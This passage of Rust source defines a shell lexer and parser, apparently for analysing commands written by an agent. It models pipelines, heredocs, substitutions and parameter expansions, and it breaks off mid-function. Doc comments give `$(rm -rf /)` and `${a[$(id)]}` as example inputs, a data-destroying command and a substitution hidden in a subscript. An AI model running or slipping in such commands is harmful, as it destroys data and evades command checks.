//! The shell lexer and recursive-descent parser: a command string becomes a [`Script`] tree.
//!
//! The grammar is the POSIX shell grammar plus the bash forms an agent writes: lists (`;`,
//! newline, `&`), `&&`/`||`, pipelines (`|`, `|&`, `!`), subshells, brace groups, `if`,
//! `while`/`until`, `for` (both forms), `case`, `select`, `[[ … ]]`, `(( … ))`, function
//! definitions (`f() …`, `function f …`), redirections with an optional fd (`2>`, `&>`, `>&`,
//! `<>`, `>|`), heredocs (`<<`, `<<-`, quoted or not) and here-strings, and inside words: single
//! quotes, double quotes, ANSI-C `$'…'`, backslash escapes, line continuations, `$name`,
//! `${…}` with its operators, `$(…)`, backticks, `$((…))`, process substitution `<(…)`/`>(…)`,
//! array assignments `a=(…)` and extglob groups `@(…)`.
//!
//! Lexing is done on the fly because shell tokens depend on context (a `}` or `then` is a
//! keyword only where a command starts). Heredoc bodies are read when the parser consumes the
//! newline that ends their line, then moved into their redirections by a final pass.
//!
//! Invariants: the parser never panics and does bounded work. Input is limited to
//! [`MAX_SOURCE`] bytes by the caller, nesting (subshells, groups, substitutions, compound
//! commands) to [`MAX_DEPTH`] levels, and every loop advances the position or stops; an input
//! that is not valid shell, or exceeds a limit, is a [`ParseError`], never a guess.

// Pedantic style lints that fight the shape of this code: parsers and tables naturally have
// match arms with equal bodies and short local names (`a`, `b`, `c` for bytes and atoms).
#![allow(
    clippy::match_same_arms,
    clippy::many_single_char_names,
    clippy::similar_names,
    clippy::items_after_statements,
    clippy::case_sensitive_file_extension_comparisons
)]

use std::fmt;
use std::rc::Rc;

/// Largest source accepted, in bytes (64 KiB).
pub(crate) const MAX_SOURCE: usize = 64 * 1024;

/// Deepest nesting of subshells, groups, substitutions and compound commands.
pub(crate) const MAX_DEPTH: usize = 40;

/// Why a command string could not be parsed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// What went wrong, in lower case.
    pub message: String,
    /// Byte offset in the string being parsed (an inner string for nested scripts).
    pub offset: usize,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} at byte {}", self.message, self.offset)
    }
}

impl std::error::Error for ParseError {}

/// A list of commands (the body of a script, subshell, group or substitution).
#[derive(Debug, Clone, Default)]
pub(crate) struct Script {
    /// The items, in order.
    pub items: Vec<Item>,
}

/// One element of a list: an and-or list, maybe run in the background (`&`).
#[derive(Debug, Clone)]
pub(crate) struct Item {
    /// The pipelines joined by `&&` / `||`.
    pub pipelines: Vec<Pipeline>,
    /// Ended by `&`.
    pub background: bool,
}

/// Commands joined by `|` or `|&`.
#[derive(Debug, Clone)]
pub(crate) struct Pipeline {
    /// The stages, left to right.
    pub cmds: Vec<Command>,
}

/// One command of a pipeline.
#[derive(Debug, Clone)]
pub(crate) enum Command {
    /// A simple command.
    Simple(Simple),
    /// A compound command with its redirections.
    Compound(Box<Compound>, Vec<Redir>),
    /// A function definition.
    Function(Rc<FuncDef>),
}

/// A function definition.
#[derive(Debug, Clone)]
pub(crate) struct FuncDef {
    /// The function's name.
    pub name: String,
    /// Its body (usually a group).
    pub body: Command,
}

/// A simple command: assignments, words and redirections.
#[derive(Debug, Clone, Default)]
pub(crate) struct Simple {
    /// `NAME=value` prefixes (or the whole command when there are no words).
    pub assigns: Vec<Assign>,
    /// The words, command name first.
    pub words: Vec<Word>,
    /// The redirections, in order.
    pub redirs: Vec<Redir>,
    /// Assignments given as arguments of a declaration builtin (`export X=1`, `declare -a
    /// c=(…)`), in order.
    pub decls: Vec<Assign>,
    /// The source text of the command.
    pub text: String,
}

/// `NAME=value`, `NAME+=value` or `NAME=(a b c)`.
#[derive(Debug, Clone)]
pub(crate) struct Assign {
    /// The variable name.
    pub name: String,
    /// The value.
    pub value: AssignValue,
}

/// The value of an assignment.
#[derive(Debug, Clone)]
pub(crate) enum AssignValue {
    /// `NAME=word`.
    Scalar(Word),
    /// `NAME=(word …)`.
    Array(Vec<Word>),
}

/// A compound command.
#[derive(Debug, Clone)]
pub(crate) enum Compound {
    /// `( … )`.
    Subshell(Script),
    /// `{ …; }`.
    Group(Script),
    /// `if`/`elif` conditions and bodies, `else` body, in source order.
    If(Vec<Script>),
    /// `while`/`until` condition and body, and whether it is `until`.
    Loop(Script, Script, bool),
    /// `for`/`select` NAME [in WORDS]; body. `None` words: the positional parameters.
    For(String, Option<Vec<Word>>, Script),
    /// `for (( … ))`: the header words and the body.
    ArithFor(Vec<Word>, Script),
    /// `case WORD in PATTERNS) BODY ;; … esac`.
    Case(Word, Vec<(Vec<Word>, Script)>),
    /// `(( … ))`.
    Arith(Word),
    /// `[[ … ]]`: the operand words.
    Cond(Vec<Word>),
}

/// A redirection.
#[derive(Debug, Clone)]
pub(crate) struct Redir {
    /// The explicit file descriptor (`2>`), if any.
    pub fd: Option<u32>,
    /// The operator: `<`, `>`, `>>`, `>|`, `<>`, `&>`, `&>>`, `<&`, `>&`, `<<`, `<<-`, `<<<`.
    pub op: &'static str,
    /// The target.
    pub target: RedirTarget,
}

/// What a redirection points at.
#[derive(Debug, Clone)]
pub(crate) enum RedirTarget {
    /// A file name (or fd number for `<&`/`>&`).
    Word(Word),
    /// A heredoc whose body has not been read yet (an index into the parser's arena).
    Pending(usize),
    /// A heredoc body: parsed for expansions when the delimiter was unquoted.
    Heredoc(Word),
}

/// A shell word: literal and quoted text, expansions and substitutions.
#[derive(Debug, Clone, Default)]
pub(crate) struct Word {
    /// The parts, in order.
    pub parts: Vec<Part>,
    /// The source text.
    pub raw: String,
}

/// One part of a word.
#[derive(Debug, Clone)]
pub(crate) enum Part {
    /// Unquoted literal text (subject to brace expansion, tilde and globbing).
    Lit(String),
    /// Quoted or escaped literal text.
    Quoted(String),
    /// A parameter expansion.
    Param(Box<Param>),
    /// `$(…)` or a backtick substitution.
    Subst {
        /// The parsed body.
        script: Script,
        /// Inside double quotes.
        quoted: bool,
        /// The source text, e.g. `$(rm -rf /)`.
        raw: String,
    },
    /// `$((…))`.
    Arith {
        /// The expression, parsed for expansions.
        word: Word,
        /// Inside double quotes.
        quoted: bool,
    },
    /// `<(…)` (input) or `>(…)` (output) process substitution.
    Proc {
        /// The parsed body.
        script: Script,
        /// `>(…)`.
        output: bool,
        /// The source text.
        raw: String,
    },
}

/// A parameter expansion such as `$HOME`, `${1}`, `${X:-/}` or `${c[@]}`.
#[derive(Debug, Clone)]
pub(crate) struct Param {
    /// The name (`HOME`, `1`, `@`, …).
    pub name: String,
    /// An array subscript (`@`, `*`, `0`), if any.
    pub index: Option<String>,
    /// The subscript as a word when it holds expansions (`${a[$(id)]}`): bash expands it
    /// (command substitutions included) before evaluating it.
    pub index_word: Option<Word>,
    /// The operator.
    pub op: ParamOp,
    /// Inside double quotes.
    pub quoted: bool,
    /// The source text, e.g. `${X:-/}`.
    pub raw: String,
}

/// The operator of a parameter expansion.
#[derive(Debug, Clone)]
pub(crate) enum ParamOp {
    /// Plain `$X` / `${X}`.
    Plain,
    /// `${X:-w}`, `${X-w}`, `${X:=w}`, `${X=w}`: the value, or `w` when unset.
    Default(Word),
    /// `${#X}`.
    Length,
    /// `${X@P}`: the value expanded as a prompt string, which runs the command substitutions
    /// it holds.
    Prompt,
    /// Any other operator (`${!X}`, `${X:+w}`, `${X%w}`, `${X/a/b}`, …): the value is unknown;
    /// the word is kept so that substitutions inside it are still analysed.
    Other(Word),
}

/// Where a word being read ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mode {
    /// A normal word: ends at an unquoted blank or metacharacter.
    Normal,
    /// Inside `"…"`: ends at the closing quote.
    DQuote,
    /// A whole text with expansions but no quote removal of `"` (heredoc body, arithmetic).
    Expand,
    /// A whole text with quotes and expansions (the word of `${X:-word}`).
    ParamWord,
}

/// Terminator of a list being parsed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Term {
    /// The end of the input.
    Eof,
    /// A `)` (subshell, `$(…)`, process substitution).
    Paren,
    /// A reserved word (`}`, `fi`, `done`, `esac`, `then`, …) or `;;`.
    Keyword,
}

/// Words that end a list when they appear where a command would start.
const TERMINATORS: &[&str] = &["}", "fi", "then", "elif", "else", "do", "done", "esac"];

/// A heredoc whose body is still to be read.
#[derive(Debug)]
struct PendingHeredoc {
    idx: usize,
    delim: Vec<u8>,
    strip_tabs: bool,
    quoted: bool,
}

/// Parses `src` as a shell script.
pub(crate) fn parse(src: &str) -> Result<Script, ParseError> {
    if src.len() > MAX_SOURCE {
        return Err(ParseError {
            message: format!("command longer than {MAX_SOURCE} bytes"),
            offset: MAX_SOURCE,
        });
    }
    let mut p = Parser {
        src: src.as_bytes().to_vec(),
        pos: 0,
        depth: 0,
        pending: Vec::new(),
        bodies: Vec::new(),
    };
    let mut script = p.list(Term::Eof)?;
    p.skip_blank();
    if p.pos < p.src.len() {
        return Err(p.err("unexpected token"));
    }
    // A heredoc whose line is the last one: its body is empty.
    p.read_heredoc_bodies()?;
    let mut bodies = std::mem::take(&mut p.bodies);
    fill_script(&mut script, &mut bodies, 0);
    Ok(script)
}

/// The parser state.
struct Parser {
    src: Vec<u8>,
    pos: usize,
    depth: usize,
    pending: Vec<PendingHeredoc>,
    bodies: Vec<Option<Word>>,
}

fn is_blank(b: u8) -> bool {
    b == b' ' || b == b'\t'
}

fn is_meta(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>')
}

fn is_name_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_'
}

fn is_name_char(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Whether `s` is a valid variable name.
pub(crate) fn is_name(s: &str) -> bool {
    let b = s.as_bytes();
    b.first().is_some_and(|&c| is_name_start(c)) && b.iter().all(|&c| is_name_char(c))
}

impl Parser {
    fn err(&self, message: &str) -> ParseError {
        ParseError { message: message.to_owned(), offset: self.pos }
    }

    fn peek(&self) -> Option<u8> {
        self.src.get(self.pos).copied()
    }

    fn peek_at(&self, n: usize) -> Option<u8> {
        self.src.get(self.pos + n).copied()
    }

    fn starts_with(&self, s: &[u8]) -> bool {
        self.src.get(self.pos..).is_some_and(|rest| rest.starts_with(s))
    }

    fn text(&self, start: usize, end: usize) -> String {
        let end = end.min(self.src.len());
        let start = start.min(end);
        String::from_utf8_lossy(&self.src[start..end]).into_owned()
    }

    fn enter(&mut self) -> Result<(), ParseError> {
        self.depth += 1;
        if self.depth > MAX_DEPTH {
            return Err(self.err("nesting too deep"));
        }
        Ok(())
    }

    fn leave(&mut self) {
        self.depth = self.depth.saturating_sub(1);
    }

    /// Skips blanks, line continuations and comments (not newlines).
    fn skip_blank(&mut self) {
        loop {
            match self.peek() {
                Some(b) if is_blank(b) => self.pos += 1,
                Some(b'\\') if self.peek_at(1) == Some(b'\n') => self.pos += 2,
                Some(b'#') => {
                    while let Some(b) = self.peek() {
                        if b == b'\n' {
                            break;
                        }
                        self.pos += 1;
                    }
                }
                _ => return,
            }
        }
    }

    /// Consumes one newline, then reads the heredoc bodies that were waiting for it.
    fn newline(&mut self) -> Result<(), ParseError> {
        self.pos += 1;
        self.read_heredoc_bodies()
    }

    /// Skips blanks, comments and newlines.
    fn skip_linebreaks(&mut self) -> Result<(), ParseError> {
        loop {
            self.skip_blank();
            if self.peek() == Some(b'\n') {
                self.newline()?;
            } else {
                return Ok(());
            }
        }
    }

    fn read_heredoc_bodies(&mut self) -> Result<(), ParseError> {
        let pending = std::mem::take(&mut self.pending);
        for h in pending {
            let mut body = Vec::new();
            loop {
                if self.pos >= self.src.len() {
                    break;
                }
                let line_end =
                    self.src[self.pos..].iter().position(|&b| b == b'\n').map(|i| self.pos + i);
                let end = line_end.unwrap_or(self.src.len());
                let mut line = &self.src[self.pos..end];
                if h.strip_tabs {
                    while let [b'\t', rest @ ..] = line {
                        line = rest;
                    }
                }
                let done = line == h.delim.as_slice();
                if !done {
                    body.extend_from_slice(line);
                    body.push(b'\n');
                }
                self.pos = line_end.map_or(self.src.len(), |e| e + 1);
                if done {
                    break;
                }
            }
            let text = String::from_utf8_lossy(&body).into_owned();
            let word = if h.quoted {
                Word { parts: vec![Part::Quoted(text.clone())], raw: text }
            } else {
                self.sub_word(&text, Mode::Expand)?
            };
            if let Some(slot) = self.bodies.get_mut(h.idx) {
                *slot = Some(word);
            }
        }
        Ok(())
    }

    /// Parses `text` as a word in `mode`, with the same depth and heredoc state.
    fn sub_word(&mut self, text: &str, mode: Mode) -> Result<Word, ParseError> {
        let saved_src = std::mem::replace(&mut self.src, text.as_bytes().to_vec());
        let saved_pos = std::mem::replace(&mut self.pos, 0);
        self.enter()?;
        let result = self.read_parts(mode);
        self.leave();
        self.src = saved_src;
        self.pos = saved_pos;
        result.map(|parts| Word { parts, raw: text.to_owned() })
    }

    /// Parses `text` as a nested script (a backtick body).
    fn sub_script(&mut self, text: &str) -> Result<Script, ParseError> {
        let saved_src = std::mem::replace(&mut self.src, text.as_bytes().to_vec());
        let saved_pos = std::mem::replace(&mut self.pos, 0);
        let saved_pending = std::mem::take(&mut self.pending);
        let result = (|| {
            self.enter()?;
            let s = self.list(Term::Eof)?;
            self.skip_blank();
            if self.pos < self.src.len() {
                return Err(self.err("unexpected token in substitution"));
            }
            self.read_heredoc_bodies()?;
            self.leave();
            Ok(s)
        })();
        self.src = saved_src;
        self.pos = saved_pos;
        self.pending = saved_pending;
        result
    }

    /// Whether the next token is a reserved word in `words` (followed by a delimiter).
    fn at_keyword(&self, words: &[&str]) -> Option<&'static str> {
        for &w in TERMINATORS.iter().chain(["in", "{", "!"].iter()) {
            if words.contains(&w) && self.starts_with(w.as_bytes()) {
                let next = self.peek_at(w.len());
                if next.is_none_or(|b| is_meta(b) || (w == "}" && b == b'}')) {
                    return Some(w);
                }
            }
        }
        None
    }

    /// A list that must not be empty (`if`, `while`, `{ }` bodies), as in bash.
    fn nonempty_list(&mut self, term: Term) -> Result<Script, ParseError> {
        let s = self.list(term)?;
        if s.items.is_empty() {
            return Err(self.err("empty command list"));
        }
        Ok(s)
    }

    fn expect_keyword(&mut self, w: &str) -> Result<(), ParseError> {
        self.skip_linebreaks()?;
        if self.at_keyword(&[w]).is_some() {
            self.pos += w.len();
            Ok(())
        } else {
            Err(self.err(&format!("expected `{w}`")))
        }
    }

    /// A list of and-or lists until `term`.
    fn list(&mut self, term: Term) -> Result<Script, ParseError> {
        let mut items = Vec::new();
        loop {
            self.skip_linebreaks()?;
            let Some(b) = self.peek() else { break };
            match term {
                Term::Paren if b == b')' => break,
                Term::Keyword if self.at_keyword(TERMINATORS).is_some() => break,
                Term::Keyword if b == b')' => break,
                Term::Keyword if self.starts_with(b";;") || self.starts_with(b";&") => break,
                _ => {}
            }
            if b == b')' {
                return Err(self.err("unexpected `)`"));
            }
            if b == b';' || b == b'&' || b == b'|' {
                return Err(self.err("unexpected operator"));
            }
            let pipelines = self.and_or()?;
            self.skip_blank();
            let mut background = false;
            match self.peek() {
                Some(b'&') if !self.starts_with(b"&&") => {
                    self.pos += 1;
                    background = true;
                }
                Some(b';') if !self.starts_with(b";;") && !self.starts_with(b";&") => {
                    self.pos += 1;
                }
                Some(b'\n') => self.newline()?,
                _ => {
                    items.push(Item { pipelines, background });
                    self.skip_blank();
                    match self.peek() {
                        None | Some(b')') => break,
                        _ if term == Term::Keyword => continue,
                        _ => return Err(self.err("unexpected token")),
                    }
                }
            }
            items.push(Item { pipelines, background });
        }
        Ok(Script { items })
    }

    fn and_or(&mut self) -> Result<Vec<Pipeline>, ParseError> {
        let mut out = vec![self.pipeline()?];
        loop {
            self.skip_blank();
            if self.starts_with(b"&&") || self.starts_with(b"||") {
                self.pos += 2;
                self.skip_linebreaks()?;
                out.push(self.pipeline()?);
            } else {
                return Ok(out);
            }
        }
    }

    fn pipeline(&mut self) -> Result<Pipeline, ParseError> {
        self.skip_blank();
        // `time` and `!` prefixes.
        loop {
            if self.at_keyword(&["!"]).is_some() {
                self.pos += 1;
                self.skip_blank();
            } else {
                break;
            }
        }
        let mut cmds = vec![self.command()?];
        loop {
            self.skip_blank();
            if self.starts_with(b"||") {
                return Ok(Pipeline { cmds });
            }
            if self.starts_with(b"|&") {
                self.pos += 2;
            } else if self.peek() == Some(b'|') {
                self.pos += 1;
            } else {
                return Ok(Pipeline { cmds });
            }
            self.skip_linebreaks()?;
            cmds.push(self.command()?);
        }
    }

    /// The first word at the position, if it is an unquoted literal (for keyword checks).
    fn peek_literal_word(&self) -> Option<String> {
        let mut end = self.pos;
        while let Some(&b) = self.src.get(end) {
            if is_meta(b) || matches!(b, b'"' | b'\'' | b'\\' | b'$' | b'`') {
                break;
            }
            end += 1;
        }
        if end == self.pos {
            return None;
        }
        match self.src.get(end) {
            None => {}
            Some(&b) if is_meta(b) => {}
            Some(_) => return None,
        }
        Some(self.text(self.pos, end))
    }

    fn command(&mut self) -> Result<Command, ParseError> {
        self.skip_blank();
        let Some(b) = self.peek() else {
            return Err(self.err("missing command"));
        };
        if b == b'(' {
            if self.peek_at(1) == Some(b'(')
                && let Some(c) = self.arith_command()?
            {
                return self.with_redirs(c);
            }
            self.pos += 1;
            self.enter()?;
            let body = self.list(Term::Paren)?;
            self.leave();
            if self.peek() != Some(b')') {
                return Err(self.err("missing `)`"));
            }
            self.pos += 1;
            return self.with_redirs(Compound::Subshell(body));
        }
        if let Some(word) = self.peek_literal_word() {
            match word.as_str() {
                "{" => {
                    self.pos += 1;
                    self.enter()?;
                    let body = self.nonempty_list(Term::Keyword)?;
                    self.leave();
                    self.expect_keyword("}")?;
                    return self.with_redirs(Compound::Group(body));
                }
                "if" => return self.if_command(),
                "while" | "until" => {
                    let until = word == "until";
                    self.pos += word.len();
                    self.enter()?;
                    let cond = self.nonempty_list(Term::Keyword)?;
                    self.expect_keyword("do")?;
                    let body = self.nonempty_list(Term::Keyword)?;
                    self.expect_keyword("done")?;
                    self.leave();
                    return self.with_redirs(Compound::Loop(cond, body, until));
                }
                "for" | "select" => return self.for_command(word.len()),
                "case" => return self.case_command(),
                "[[" => return self.cond_command(),
                "function" => {
                    self.pos += word.len();
                    self.skip_blank();
                    let name = self.peek_literal_word().unwrap_or_default();
                    let name = name.trim_end_matches("()").to_owned();
                    if name.is_empty() {
                        return Err(self.err("missing function name"));
                    }
                    self.pos += name.len();
                    self.skip_blank();
                    if self.starts_with(b"()") {
                        self.pos += 2;
                    } else if self.peek() == Some(b'(') {
                        self.pos += 1;
                        self.skip_blank();
                        if self.peek() != Some(b')') {
                            return Err(self.err("bad function definition"));
                        }
                        self.pos += 1;
                    }
                    return self.function_body(name);
                }
                w if TERMINATORS.contains(&w) || w == "in" => {
                    return Err(self.err(&format!("unexpected `{w}`")));
                }
                _ => {}
            }
        }
        self.simple()
    }

    fn function_body(&mut self, name: String) -> Result<Command, ParseError> {
        self.skip_linebreaks()?;
        self.enter()?;
        let body = self.command()?;
        self.leave();
        if matches!(body, Command::Simple(_)) {
            return Err(self.err("function body must be a compound command"));
        }
        Ok(Command::Function(Rc::new(FuncDef { name, body })))
    }

    fn with_redirs(&mut self, c: Compound) -> Result<Command, ParseError> {
        let mut redirs = Vec::new();
        loop {
            self.skip_blank();
            match self.try_redirect()? {
                Some(r) => redirs.push(r),
                None => return Ok(Command::Compound(Box::new(c), redirs)),
            }
        }
    }

    /// `(( … ))`; `None` when it is really two nested subshells.
    fn arith_command(&mut self) -> Result<Option<Compound>, ParseError> {
        let start = self.pos + 2;
        let mut depth = 0usize;
        let mut i = start;
        while let Some(&b) = self.src.get(i) {
            match b {
                b'(' => depth += 1,
                b')' if depth > 0 => depth -= 1,
                b')' => {
                    if self.src.get(i + 1) == Some(&b')')
                        && !looks_like_commands(&self.src[start..i])
                    {
                        let text = self.text(start, i);
                        self.pos = i + 2;
                        let word = self.sub_word(&text, Mode::Expand)?;
                        return Ok(Some(Compound::Arith(word)));
                    }
                    return Ok(None);
                }
                b'\n' | b';' | b'&' | b'|' if depth == 0 => return Ok(None),
                _ => {}
            }
            i += 1;
        }
        Ok(None)
    }

    fn if_command(&mut self) -> Result<Command, ParseError> {
        self.pos += 2;
        self.enter()?;
        let mut parts = Vec::new();
        parts.push(self.nonempty_list(Term::Keyword)?);
        self.expect_keyword("then")?;
        parts.push(self.nonempty_list(Term::Keyword)?);
        loop {
            self.skip_linebreaks()?;
            if self.at_keyword(&["elif"]).is_some() {
                self.pos += 4;
                parts.push(self.nonempty_list(Term::Keyword)?);
                self.expect_keyword("then")?;
                parts.push(self.nonempty_list(Term::Keyword)?);
            } else if self.at_keyword(&["else"]).is_some() {
                self.pos += 4;
                parts.push(self.nonempty_list(Term::Keyword)?);
            } else {
                break;
            }
        }
        self.expect_keyword("fi")?;
        self.leave();
        self.with_redirs(Compound::If(parts))
    }

    fn for_command(&mut self, keyword_len: usize) -> Result<Command, ParseError> {
        self.pos += keyword_len;
        self.skip_blank();
        self.enter()?;
        if self.starts_with(b"((") {
            let start = self.pos + 2;
            let Some(end) = find_double_close(&self.src, start) else {
                return Err(self.err("unterminated `for ((`"));
            };
            let text = self.text(start, end);
            self.pos = end + 2;
            let header = self.sub_word(&text, Mode::Expand)?;
            self.skip_blank();
            if self.peek() == Some(b';') {
                self.pos += 1;
            }
            let body = self.loop_body()?;
            self.leave();
            return self.with_redirs(Compound::ArithFor(vec![header], body));
        }
        let name = self.peek_literal_word().unwrap_or_default();
        if !is_name(&name) {
            return Err(self.err("bad `for` variable"));
        }
        self.pos += name.len();
        self.skip_linebreaks()?;
        let mut words = None;
        if self.at_keyword(&["in"]).is_some() {
            self.pos += 2;
            let mut list = Vec::new();
            loop {
                self.skip_blank();
                match self.peek() {
                    Some(b';') => {
                        self.pos += 1;
                        break;
                    }
                    Some(b'\n') => {
                        self.newline()?;
                        break;
                    }
                    None => return Err(self.err("unterminated `for`")),
                    _ => match self.word()? {
                        Some(w) => list.push(w),
                        None => return Err(self.err("bad `for` word list")),
                    },
                }
            }
            words = Some(list);
        } else if self.peek() == Some(b';') {
            self.pos += 1;
        }
        let body = self.loop_body()?;
        self.leave();
        self.with_redirs(Compound::For(name, words, body))
    }

    /// `do … done` or `{ … }`.
    fn loop_body(&mut self) -> Result<Script, ParseError> {
        self.skip_linebreaks()?;
        if self.at_keyword(&["{"]).is_some() {
            self.pos += 1;
            let body = self.nonempty_list(Term::Keyword)?;
            self.expect_keyword("}")?;
            return Ok(body);
        }
        self.expect_keyword("do")?;
        let body = self.nonempty_list(Term::Keyword)?;
        self.expect_keyword("done")?;
        Ok(body)
    }

    fn case_command(&mut self) -> Result<Command, ParseError> {
        self.pos += 4;
        self.skip_blank();
        self.enter()?;
        let Some(subject) = self.word()? else {
            return Err(self.err("missing `case` word"));
        };
        self.skip_linebreaks()?;
        if self.at_keyword(&["in"]).is_none() {
            return Err(self.err("expected `in`"));
        }
        self.pos += 2;
        let mut arms = Vec::new();
        loop {
            self.skip_linebreaks()?;
            if self.at_keyword(&["esac"]).is_some() {
                self.pos += 4;
                break;
            }
            if self.peek().is_none() {
                return Err(self.err("unterminated `case`"));
            }
            if self.peek() == Some(b'(') {
                self.pos += 1;
            }
            let mut patterns = Vec::new();
            loop {
                self.skip_blank();
                match self.peek() {
                    Some(b')') => {
                        self.pos += 1;
                        break;
                    }
                    Some(b'|') => self.pos += 1,
                    _ => match self.word()? {
                        Some(w) => patterns.push(w),
                        None => return Err(self.err("bad `case` pattern")),
                    },
                }
            }
            let body = self.list(Term::Keyword)?;
            self.skip_linebreaks()?;
            if self.starts_with(b";;&") {
                self.pos += 3;
            } else if self.starts_with(b";;") || self.starts_with(b";&") {
                self.pos += 2;
            } else if self.at_keyword(&["esac"]).is_none() {
                return Err(self.err("expected `;;`"));
            }
            arms.push((patterns, body));
        }
        self.leave();
        self.with_redirs(Compound::Case(subject, arms))
    }

    fn cond_command(&mut self) -> Result<Command, ParseError> {
        self.pos += 2;
        let mut words = Vec::new();
        loop {
            self.skip_blank();
            if self.peek() == Some(b'\n') {
                self.newline()?;
                continue;
            }
            if self.starts_with(b"]]") && self.peek_at(2).is_none_or(is_meta) {
                self.pos += 2;
                break;
            }
            match self.peek() {
                None => return Err(self.err("unterminated `[[`")),
                Some(b'&' | b'|' | b'(' | b')' | b'<' | b'>' | b'!' | b';') => self.pos += 1,
                _ => match self.word()? {
                    Some(w) => words.push(w),
                    None => self.pos += 1,
                },
            }
        }
        self.with_redirs(Compound::Cond(words))
    }

    fn simple(&mut self) -> Result<Command, ParseError> {
        let start = self.pos;
        let mut cmd = Simple::default();
        let mut end = self.pos;
        loop {
            self.skip_blank();
            if let Some(r) = self.try_redirect()? {
                cmd.redirs.push(r);
                end = self.pos;
                continue;
            }
            let Some(b) = self.peek() else { break };
            if b == b'(' {
                // `name()`: a function definition.
                if cmd.words.len() == 1 && cmd.assigns.is_empty() && cmd.redirs.is_empty() {
                    let save = self.pos;
                    self.pos += 1;
                    self.skip_blank();
                    if self.peek() == Some(b')') {
                        self.pos += 1;
                        let name = cmd.words[0].raw.clone();
                        return self.function_body(name);
                    }
                    self.pos = save;
                }
                return Err(self.err("unexpected `(`"));
            }
            let proc_sub = (b == b'<' || b == b'>') && self.peek_at(1) == Some(b'(');
            if is_meta(b) && !proc_sub {
                break;
            }
            if cmd.words.is_empty()
                && let Some(a) = self.try_assignment()?
            {
                cmd.assigns.push(a);
                end = self.pos;
                continue;
            }
            if cmd.words.first().is_some_and(|w| {
                matches!(w.raw.as_str(), "export" | "declare" | "typeset" | "local" | "readonly")
            }) && let Some(a) = self.try_assignment()?
            {
                cmd.decls.push(a);
                end = self.pos;
                continue;
            }
            match self.word()? {
                Some(w) => {
                    cmd.words.push(w);
                    end = self.pos;
                }
                None => break,
            }
        }
        if cmd.words.is_empty() && cmd.assigns.is_empty() && cmd.redirs.is_empty() {
            return Err(self.err("missing command"));
        }
        cmd.text = self.text(start, end);
        Ok(Command::Simple(cmd))
    }

    /// `NAME=…`, `NAME+=…` or `NAME=(…)` at the position.
    fn try_assignment(&mut self) -> Result<Option<Assign>, ParseError> {
        let mut i = self.pos;
        while self.src.get(i).is_some_and(|&b| is_name_char(b)) {
            i += 1;
        }
        if i == self.pos || !self.src.get(self.pos).is_some_and(|&b| is_name_start(b)) {
            return Ok(None);
        }
        let name = self.text(self.pos, i);
        if self.src.get(i) == Some(&b'+') {
            i += 1;
        }
        if self.src.get(i) != Some(&b'=') {
            return Ok(None);
        }
        self.pos = i + 1;
        if self.peek() == Some(b'(') {
            self.pos += 1;
            let mut items = Vec::new();
            loop {
                self.skip_linebreaks()?;
                match self.peek() {
                    Some(b')') => {
                        self.pos += 1;
                        break;
                    }
                    None => return Err(self.err("unterminated array")),
                    _ => match self.word()? {
                        Some(w) => items.push(w),
                        None => return Err(self.err("bad array element")),
                    },
                }
            }
            return Ok(Some(Assign { name, value: AssignValue::Array(items) }));
        }
        let start = self.pos;
        let parts = self.read_parts(Mode::Normal)?;
        let raw = self.text(start, self.pos);
        Ok(Some(Assign { name, value: AssignValue::Scalar(Word { parts, raw }) }))
    }

    /// A redirection at the position, if there is one.
    fn try_redirect(&mut self) -> Result<Option<Redir>, ParseError> {
        let save = self.pos;
        let mut fd = None;
        let mut i = self.pos;
        while self.src.get(i).is_some_and(u8::is_ascii_digit) {
            i += 1;
        }
        if i > self.pos && matches!(self.src.get(i), Some(b'<' | b'>')) {
            fd = self.text(self.pos, i).parse().ok();
            self.pos = i;
        }
        const OPS: &[&str] =
            &["<<<", "<<-", "&>>", "<<", ">>", ">|", "<>", "&>", "<&", ">&", "<", ">"];
        let Some(&op) = OPS.iter().find(|op| self.starts_with(op.as_bytes())) else {
            self.pos = save;
            return Ok(None);
        };
        // `<(` and `>(` start a process substitution word, not a redirection.
        if (op == "<" || op == ">") && self.peek_at(1) == Some(b'(') && fd.is_none() {
            self.pos = save;
            return Ok(None);
        }
        self.pos += op.len();
        self.skip_blank();
        if op == "<<" || op == "<<-" {
            let start = self.pos;
            let Some(w) = self.word()? else {
                return Err(self.err("missing heredoc delimiter"));
            };
            let quoted = w.parts.iter().any(|p| !matches!(p, Part::Lit(_)));
            let delim: String = w
                .parts
                .iter()
                .map(|p| match p {
                    Part::Lit(s) | Part::Quoted(s) => s.as_str(),
                    _ => "",
                })
                .collect();
            let delim = if delim.is_empty() { self.text(start, self.pos) } else { delim };
            let idx = self.bodies.len();
            self.bodies.push(None);
            self.pending.push(PendingHeredoc {
                idx,
                delim: delim.into_bytes(),
                strip_tabs: op == "<<-",
                quoted,
            });
            return Ok(Some(Redir { fd, op, target: RedirTarget::Pending(idx) }));
        }
        match self.word()? {
            Some(w) => Ok(Some(Redir { fd, op, target: RedirTarget::Word(w) })),
            None => Err(self.err("missing redirection target")),
        }
    }

    /// A word at the position (`None` at a metacharacter or the end).
    fn word(&mut self) -> Result<Option<Word>, ParseError> {
        self.skip_blank();
        let start = self.pos;
        match self.peek() {
            None => return Ok(None),
            Some(b'<' | b'>') if self.peek_at(1) == Some(b'(') => {}
            Some(b) if is_meta(b) => return Ok(None),
            _ => {}
        }
        let parts = self.read_parts(Mode::Normal)?;
        if self.pos == start {
            return Ok(None);
        }
        Ok(Some(Word { parts, raw: self.text(start, self.pos) }))
    }

    /// Reads the parts of a word in `mode`, leaving the position after it.
    fn read_parts(&mut self, mode: Mode) -> Result<Vec<Part>, ParseError> {
        let mut parts: Vec<Part> = Vec::new();
        let mut lit: Vec<u8> = Vec::new();
        let quoted_ctx = mode == Mode::DQuote;
        let push_lit = |parts: &mut Vec<Part>, lit: &mut Vec<u8>, quoted: bool| {
            if !lit.is_empty() {
                let s = String::from_utf8_lossy(lit).into_owned();
                lit.clear();
                if quoted {
                    parts.push(Part::Quoted(s));
                } else {
